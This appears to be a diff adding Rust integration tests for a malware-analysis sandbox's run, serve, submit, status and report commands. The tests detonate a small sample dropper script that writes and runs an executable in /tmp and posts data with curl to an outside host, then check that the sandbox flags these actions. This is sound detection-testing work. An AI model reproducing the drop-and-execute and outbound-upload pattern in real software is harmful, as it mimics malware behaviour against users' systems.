@@ -400,3 +400,141 @@ fn misp_requests_go_through_http_proxy_unless_no_proxy() {
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains("cannot connect") && err.contains("127.0.0.2:9"), "direct, as NO_PROXY says: {err}");
 }
+
+#[test]
+fn sandbox_help_teaches_its_commands() {
+    let (code, out, _) = run(&["sandbox", "--help"]);
+    assert_eq!(code, 0);
+    for word in ["run", "serve", "submit", "status", "report", "Cuckoo"] {
+        assert!(out.contains(word), "sandbox --help lacks {word}: {out}");
+    }
+    for (sub, words) in [
+        ("run", &["--timeout", "--output", "--root", "Examples", "not a VM"][..]),
+        ("serve", &["--listen", "--db", "--storage", "--no-auth", "--workers", "Bearer", "Examples"]),
+        ("submit", &["--wait", "--url", "--token", "Examples"]),
+        ("report", &["--all", "Examples"]),
+    ] {
+        let (code, out, _) = run(&["sandbox", sub, "--help"]);
+        assert_eq!(code, 0);
+        for w in words {
+            assert!(out.contains(w), "sandbox {sub} --help lacks {w}: {out}");
+        }
+    }
+    // a client error names the server and says what went wrong
+    let (code, _, err) = run(&["sandbox", "status", "1", "--url", "http://127.0.0.1:9", "--token", "x"]);
+    assert_ne!(code, 0);
+    assert!(err.contains("http://127.0.0.1:9/tasks/view/1"), "{err}");
+}
+
+const SANDBOX_DROPPER: &str = "#!/bin/sh\n\
+printf '#!/bin/sh\\necho stage2\\n' > /tmp/stage2\n\
+chmod +x /tmp/stage2 && /tmp/stage2\n\
+curl -s -m 5 -X POST -d hello http://why.kunai.rocks/upload\n";
+
+/// `sandbox run`, then `serve` and its clients: one after the other (each
+/// loads the eBPF sensor; side by side they would only slow each other).
+#[test]
+fn sandbox_live_run_then_serve_submit_status_report() {
+    if !require_root() {
+        return;
+    }
+    sandbox_run_detonates_once_and_prints_the_summary();
+    sandbox_serve_submit_wait_status_report();
+}
+
+fn sandbox_run_detonates_once_and_prints_the_summary() {
+    let dir = tempfile::tempdir().unwrap();
+    let sample = dir.path().join("dropper.sh");
+    std::fs::write(&sample, SANDBOX_DROPPER).unwrap();
+    let out_dir = dir.path().join("analysis");
+    let (code, out, err) =
+        run(&["sandbox", "run", sample.to_str().unwrap(), "--timeout", "20", "-o", out_dir.to_str().unwrap()]);
+    assert_eq!(code, 0, "{out}\n{err}");
+    for expected in ["score", "dropped_executed_from_tmp", "resolved why.kunai.rocks", "POST http://why.kunai.rocks/upload", "/tmp/stage2"] {
+        assert!(out.contains(expected), "{expected} missing: {out}");
+    }
+    let report = out_dir.join("reports/report.json");
+    assert!(out.contains(&report.display().to_string()), "{out}");
+    let r = ioclab_sandbox::Report::from_file(&report).unwrap();
+    let sha = String::from_utf8(Command::new("sha256sum").arg(&sample).output().unwrap().stdout).unwrap();
+    assert_eq!(r.target.file.unwrap().sha256.unwrap().to_string(), sha.split_whitespace().next().unwrap());
+}
+
+fn sandbox_serve_submit_wait_status_report() {
+    use std::io::BufRead;
+    let dir = tempfile::tempdir().unwrap();
+    let storage = dir.path().join("storage");
+    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+    let url = format!("http://127.0.0.1:{port}");
+    let serve = || {
+        Reaped(
+            ioclab()
+                .args(["sandbox", "serve", "--listen", &format!("127.0.0.1:{port}"), "--storage", storage.to_str().unwrap()])
+                .stdout(Stdio::piped())
+                .stderr(Stdio::null())
+                .spawn()
+                .unwrap(),
+        )
+    };
+    let mut server = serve();
+    // the token, printed once on first start
+    let mut line = String::new();
+    std::io::BufReader::new(server.stdout.take().unwrap()).read_line(&mut line).unwrap();
+    let token = line.trim().rsplit(' ').next().unwrap().to_string();
+    assert!(line.starts_with("API token (shown once;") && token.len() == 22, "{line}");
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
+        assert!(Instant::now() < deadline, "sandbox serve did not listen");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let sample = dir.path().join("dropper.sh");
+    std::fs::write(&sample, SANDBOX_DROPPER).unwrap();
+    let client = |args: &[&str]| {
+        let mut all = args.to_vec();
+        all.extend(["--url", &url, "--token", &token]);
+        run(&all)
+    };
+    let (code, out, err) = client(&["sandbox", "submit", sample.to_str().unwrap(), "--wait", "--timeout", "20"]);
+    assert_eq!(code, 0, "{out}\n{err}");
+    for expected in ["task 1:", "dropped_executed_from_tmp", "resolved why.kunai.rocks", "/tmp/stage2", "/tasks/report/1"] {
+        assert!(out.contains(expected), "{expected} missing: {out}");
+    }
+    let (code, out, _) = client(&["sandbox", "status", "1"]);
+    assert_eq!(code, 0);
+    assert!(out.starts_with("task 1: reported (file dropper.sh)"), "{out}");
+    let (code, out, _) = client(&["sandbox", "status"]);
+    assert!(code == 0 && out.contains("1 reported"), "{out}");
+    let (code, out, _) = client(&["sandbox", "report", "1"]);
+    assert_eq!(code, 0);
+    assert_eq!(ioclab_sandbox::Report::from_slice(out.as_bytes(), "stdout").unwrap().info.id, 1);
+    let tarball = dir.path().join("1.tar.bz2");
+    let (code, _, err) = client(&["sandbox", "report", "1", "--all", "-o", tarball.to_str().unwrap()]);
+    assert_eq!(code, 0, "{err}");
+    let listing = Command::new("tar").args(["tjf", tarball.to_str().unwrap()]).output().unwrap();
+    let listing = String::from_utf8_lossy(&listing.stdout);
+    assert!(listing.contains("reports/report.json") && listing.contains("binary"), "{listing}");
+    // a wrong token: Cuckoo's 401, said plainly
+    let (code, _, err) = run(&["sandbox", "status", "1", "--url", &url, "--token", "wrong"]);
+    assert_ne!(code, 0);
+    assert!(err.contains("HTTP 401") && err.contains("Bearer"), "{err}");
+    // a second start keeps the token and does not print it again
+    drop(server);
+    let mut server = serve();
+    let mut rest = String::new();
+    let stdout = server.stdout.take().unwrap();
+    let reader = std::thread::spawn(move || {
+        let mut s = String::new();
+        let _ = std::io::BufReader::new(stdout).read_line(&mut s);
+        s
+    });
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
+        assert!(Instant::now() < deadline, "sandbox serve did not listen again");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let (code, out, _) = client(&["sandbox", "status", "1"]);
+    assert!(code == 0 && out.contains("reported"), "{out}");
+    drop(server);
+    rest.push_str(&reader.join().unwrap());
+    assert!(!rest.contains(&token), "the token was printed again: {rest}");
+}
